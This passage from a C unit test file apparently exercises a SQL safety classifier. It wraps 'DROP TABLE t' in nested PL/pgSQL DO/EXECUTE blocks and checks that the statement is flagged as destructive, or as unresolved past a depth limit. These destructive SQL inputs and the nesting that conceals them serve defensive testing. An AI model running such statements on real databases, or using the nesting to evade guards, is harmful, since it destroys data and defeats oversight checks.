  assert_int_equal(r.ops, 0);
  lv_sql_result_free(&r);
  /* DO blocks executing DO blocks: past LV_SQL_MAX_DEPTH, unresolved */
  for (int levels = 3; levels <= LV_SQL_MAX_DEPTH + 4; levels += 13) {
    char *cur = strdup("DROP TABLE t");
    assert_non_null(cur);
    for (int k = 0; k < levels; k++) {
      size_t need = strlen(cur) + 96;
      char *next = malloc(need);
      assert_non_null(next);
      snprintf(next, need, "DO $d%d$ BEGIN EXECUTE $e%d$%s$e%d$; END $d%d$", k,
               k, cur, k, k);
      free(cur);
      cur = next;
    }
    r = classify_with(cur, strlen(cur), 1, NULL);
    if (2 * levels <= LV_SQL_MAX_DEPTH)
      assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE);
    else
      assert_true(r.ops & LV_SQL_UNRESOLVED);
    lv_sql_result_free(&r);
    free(cur);
  }
  /* a PL/pgSQL body with many nested loops stays bounded */
  o = (size_t)snprintf(big, 64, "DO $$ DECLARE v text := 'x'; BEGIN ");
  for (int i = 0; i < 40; i++)
    o += (size_t)snprintf(big + o, 64, "LOOP v := v || 'y'; ");
  o += (size_t)snprintf(big + o, 64, "EXECUTE v; ");
  for (int i = 0; i < 40; i++)
    o += (size_t)snprintf(big + o, 64, "END LOOP; ");
  o += (size_t)snprintf(big + o, 64, "END $$");
  r = classify_with(big, o, 1, NULL);
  assert_true(r.ops & LV_SQL_UNRESOLVED);
  lv_sql_result_free(&r);
  free(big);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_case_list),
      cmocka_unit_test(test_categories),
      cmocka_unit_test(test_empty),
      cmocka_unit_test(test_drop),
      cmocka_unit_test(test_where),
      cmocka_unit_test(test_alter_copy_system),
      cmocka_unit_test(test_functions),
      cmocka_unit_test(test_privilege),
      cmocka_unit_test(test_walk),
      cmocka_unit_test(test_dynamic),
      cmocka_unit_test(test_standard_conforming_strings),
      cmocka_unit_test(test_encodings),
      cmocka_unit_test(test_nul),
      cmocka_unit_test(test_statements),
      cmocka_unit_test(test_bounds),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
